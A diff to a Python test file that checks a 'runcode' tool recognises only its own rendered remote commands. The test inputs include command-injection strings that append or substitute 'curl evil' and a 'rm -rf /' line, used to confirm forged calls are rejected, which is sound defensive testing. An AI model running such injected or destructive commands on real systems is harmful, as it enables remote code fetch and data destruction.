@@ -6,7 +6,9 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from runcode.core.remote_command import parse_exec, render_exec
+from runcode.core import remote_context, remote_files, remote_trees
+from runcode.core.remote_calls import describe
+from runcode.core.remote_command import parse_exec, render_exec, render_script, render_shell
 
 NONCE = "0123456789abcdef" * 2
 WORDS = [
@@ -48,3 +50,46 @@ def test_what_only_looks_like_ours_is_shown_as_it_is(words: list[str]) -> None:
 @pytest.mark.parametrize("text", ["", "ls", "'", "exec", "exec a b c", "exec a b RUNCODE_EXEC= -- x", "\0"])
 def test_other_commands_are_none_of_ours(text: str) -> None:
     assert parse_exec(text) is None
+
+
+TARGET = remote_files.RemoteFile(workdir="/w d", path="it's a", name="n")
+CALLS = {
+    "runcode exec -- ls -l 'a b'": render_exec(["ls", "-l", "a b"], workdir="/w", nonce=NONCE),
+    "runcode get 'a b'": remote_files.render_download(NONCE, algorithm="cksum", workdir="/w", path="a b"),
+    "runcode put 'it'\\''s a'": remote_files.render_upload(NONCE, TARGET, algorithm="sha256", size=7, mode=0o644),
+    "runcode put --resume 'it'\\''s a'": remote_files.render_partial(NONCE, TARGET, algorithm="sha256"),
+    "runcode get -r f": remote_trees.render_tree_download(NONCE, algorithm="sha256", workdir="/w", path="f"),
+    "runcode put -r f": remote_trees.render_tree_upload(
+        NONCE, algorithm="sha256", workdir="/w", path="f", name="n", is_big=True
+    ),
+    "runcode context": remote_context.render_context(NONCE, workdir="/w"),
+    "runcode forward": render_script("exec cat >/dev/null", NONCE),
+    "runcode shell": render_shell(workdir="/w d"),
+    "runcode shell --home": render_shell(workdir=None),
+}
+
+
+@pytest.mark.parametrize("told", CALLS)
+def test_a_call_of_ours_is_told_as_it_was_typed(told: str) -> None:
+    assert describe(CALLS[told]) == told
+
+
+@pytest.mark.parametrize("told", CALLS)
+def test_a_changed_call_is_not_told_as_ours(told: str) -> None:
+    text = CALLS[told]
+    for forged in (
+        text + "; curl evil",
+        text + " $(curl evil)",
+        "curl evil; " + text,
+        text.replace("exec ", "curl evil; exec ", 1),
+        text.replace("/bin/sh", "/tmp/sh"),
+        text.replace("cd ", "curl evil; cd ", 1) if "cd " in text else text + "\ncurl evil",
+        text.replace(" runcode", " $(curl evil) runcode", 1) if " runcode" in text else text + "&",
+    ):
+        assert forged != text
+        assert describe(forged) is None, forged
+
+
+@pytest.mark.parametrize("text", ["", "ls", "'", "exec /bin/sh -c 'rm -rf /' runcode x", "exec /bin/sh -c runcode"])
+def test_what_is_not_ours_is_not_told_as_ours(text: str) -> None:
+    assert describe(text) is None
